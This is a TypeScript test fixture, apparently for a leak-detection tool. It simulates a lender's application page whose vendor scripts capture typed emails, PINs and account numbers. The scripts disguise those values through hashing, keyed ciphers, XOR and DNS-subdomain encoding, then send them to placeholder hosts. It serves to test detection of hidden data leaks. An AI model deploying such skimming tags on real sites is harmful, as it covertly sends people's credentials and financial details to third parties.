// A site whose tag hides what is typed under salts and ciphers that nobody is told, among fields that have nothing to do with it.
import type { Routes } from '../../support/loopback.ts';

/** What the tag sends as `name`, and whether it is made of an input. `follows` lists the inputs; empty for clean fields. */
export interface SentField {
  readonly name: string;
  readonly follows: readonly string[];
  /** JavaScript; `mail`, `pin` and `koza` are what was typed, the functions of `TOOLS` are there. */
  readonly made: string;
}

/** A digest, a cipher, a stream, an alphabet: each under a secret of its own. */
export const DERIVED: readonly SentField[] = [
  { name: 'salted', follows: ['email'], made: `hex(await sha('SHA-256', 'pepper-4711' + mail))` },
  { name: 'tail_salt', follows: ['pin'], made: `b64url(await sha('SHA-384', pin + '|vendor'))` },
  { name: 'keyed', follows: ['account.number'], made: `hex(await hmac('constant-key', koza))` },
  { name: 'short', follows: ['pin'], made: `hex(await hmac('constant-key', pin)).slice(0, 8)` },
  { name: 'cbc', follows: ['email'], made: `b64(await aes('AES-CBC', mail))` },
  { name: 'ctr', follows: ['account.number'], made: `b64url(await aes('AES-CTR', koza))` },
  { name: 'xor', follows: ['account.number'], made: `hex(xor(koza, [19, 84, 7, 201, 55]))` },
  { name: 'alphabet', follows: ['email'], made: `letters(mail)` },
  { name: 'packed', follows: ['email', 'pin'], made: `b64(await aes('AES-CBC', JSON.stringify({ mail, pin })))` },
];

/** Nothing here tells who typed what. */
export const CLEAN: readonly SentField[] = [
  { name: 'constant', follows: [], made: `'UA-0001'` },
  { name: 'random', follows: [], made: `crypto.randomUUID()` },
  { name: 'now', follows: [], made: `String(Date.now())` },
  { name: 'second', follows: [], made: `String(Math.floor(Date.now() / 1000))` },
  { name: 'day', follows: [], made: `new Date().toISOString().slice(0, 10)` },
  { name: 'session', follows: [], made: `kept('sid', () => crypto.randomUUID())` },
  { name: 'counter', follows: [], made: `String(1000 + Number(kept('n', () => '0')))` },
  { name: 'served', follows: [], made: `'visit-' + window.served` },
  // The same for three visits in a row, as a release or an hour is: equal in the first two runs, changed in the third.
  { name: 'release', follows: [], made: `'release-' + Math.floor((window.served - 1) / 2)` },
  { name: 'bucket', follows: [], made: `any(['variant-a', 'variant-b'])` },
  { name: 'bucket_of_three', follows: [], made: `any(['red-version', 'green-version', 'blue-version'])` },
  { name: 'length', follows: [], made: `String(1000 + mail.length)` },
  { name: 'valid', follows: [], made: `String(mail.includes('@'))` },
  { name: 'nonce_hmac', follows: [], made: `hex(await hmac(crypto.randomUUID(), mail))` },
  { name: 'fresh_iv', follows: [], made: `b64(await aes('AES-CBC', mail, crypto.getRandomValues(new Uint8Array(16))))` },
  { name: 'screen', follows: [], made: `screen.width + 'x' + screen.height` },
];

const TOOLS = `
const bytes = (text) => new TextEncoder().encode(text);
const hex = (data) => Array.from(new Uint8Array(data), (b) => b.toString(16).padStart(2, '0')).join('');
const b64 = (data) => btoa(String.fromCharCode(...new Uint8Array(data)));
const b64url = (data) => b64(data).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '');
const sha = (name, text) => crypto.subtle.digest(name, bytes(text));
const hmac = async (key, text) => crypto.subtle.sign('HMAC',
  await crypto.subtle.importKey('raw', bytes(key), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']), bytes(text));
const aes = async (name, text, iv = bytes('sixteen bytes iv')) => crypto.subtle.encrypt(
  name === 'AES-CBC' ? { name, iv } : { name, counter: iv, length: 64 },
  await crypto.subtle.importKey('raw', bytes('a constant key !'), name, false, ['encrypt']), bytes(text));
const xor = (text, key) => bytes(text).map((b, at) => b ^ key[at % key.length]);
const letters = (text) => Array.from(text, (c) => 'qwertyuiopasdfghjklzxcvbnm'[(c.charCodeAt(0) * 7 + 3) % 26]).join('');
const any = (list) => list[Math.floor(Math.random() * list.length)];
const kept = (key, make) => { const value = sessionStorage.getItem(key) ?? make(); sessionStorage.setItem(key, value); return value; };
`;

const members = (fields: readonly SentField[]): string =>
  fields.map(({ name, made }) => `${JSON.stringify(name)}: ${made}`).join(',\n  ');

const TAG = `${TOOLS}
async function send() {
  const [mail, pin, koza] = ['mail', 'pin', 'koza'].map((id) => document.getElementById(id).value);
  const query = new URLSearchParams({ ${members(CLEAN)} });
  await fetch('https://t.vendor.test/clean?' + query, { mode: 'no-cors' });
  const json = JSON.stringify({ client: { seen: Date.now() }, events: [{ ${members(DERIVED)} }] });
  await fetch('https://t.vendor.test/derived', { method: 'POST', body: json, mode: 'no-cors' });
  const whole = await aes('AES-CTR', JSON.stringify({ mail, pin, koza }));
  await fetch('https://b.other.test/body', { method: 'POST', body: new Blob([whole]), mode: 'no-cors' });
  const name = hex(await hmac('path', koza)).slice(0, 24);
  await fetch('https://b.other.test/u/' + name + '/pixel', { mode: 'no-cors' });
  await fetch('https://' + letters(pin) + 'x' + name.slice(0, 12) + '.d.third.test/', { mode: 'no-cors' }).catch(() => {});
}
document.getElementById('go').addEventListener('click', (event) => { event.preventDefault(); void send(); });
`;

// Its page's own URL holds the address in the clear: a fingerprint of that URL tells this vendor nothing more.
const PAGE_TAG = `${TOOLS}
(async () => {
  const mail = new URLSearchParams(location.search).get('mail');
  const page = hex(await sha('SHA-256', location.href));
  await fetch('https://t.vendor.test/view?dl=' + encodeURIComponent(location.href) + '&page=' + page, { mode: 'no-cors' });
  await fetch('https://t.vendor.test/ping?page=' + page + '&r=' + Math.random(), { mode: 'no-cors' });
  await fetch('https://o.only.test/id?uid=' + hex(await sha('SHA-256', 'only-' + mail)), { mode: 'no-cors' });
})();
`;

// Its page writes a salted digest into its own address, which the tag then repeats.
const ADDRESS_TAG = `${TOOLS}
document.getElementById('go').addEventListener('click', async (event) => {
  event.preventDefault();
  history.replaceState(null, '', '?member=' + hex(await sha('SHA-256', 'member-' + document.getElementById('mail').value)));
  await fetch('https://o.only.test/view?dl=' + encodeURIComponent(location.href), { mode: 'no-cors' });
});
`;

const script = (body: string): { headers: Record<string, string>; body: string } => ({
  headers: { 'content-type': 'text/javascript' },
  body,
});

/** The pages, the vendors' scripts, and a server that counts its visitors. */
export function derivedSite(): Routes {
  let served = 0;
  return {
    'www.lender.example/apply': () => {
      served += 1;
      return {
        body: `<!doctype html><title>試験</title><script>window.served = ${served}</script>
<form><input id="mail"><input id="pin"><input id="koza"><button id="go">次へ</button></form>
<script src="https://cdn.vendor.test/tag.js"></script>`,
      };
    },
    'www.lender.example/unsubscribe': '<!doctype html><title>試験</title><script src="https://cdn.vendor.test/page.js"></script>',
    'www.lender.example/profile': `<!doctype html><title>試験</title><form><input id="mail"><button id="go">次へ</button></form>
<script src="https://cdn.vendor.test/address.js"></script>`,
    'cdn.vendor.test/address.js': script(ADDRESS_TAG),
    'cdn.vendor.test/tag.js': script(TAG),
    'cdn.vendor.test/page.js': script(PAGE_TAG),
  };
}

export const CONFIG = `site: https://www.lender.example/
pages:
  - name: Apply
    url: /apply
    steps:
      - fill: { selector: '#mail', value: '{email}' }
      - fill: { selector: '#pin', value: '{pin}' }
      - fill: { selector: '#koza', value: '{account.number}' }
      - click: { selector: '#go' }
  - name: Profile
    url: /profile
    steps:
      - fill: { selector: '#mail', value: '{email}' }
      - click: { selector: '#go' }
  - name: Unsubscribe
    url: /unsubscribe?mail={email}
`;
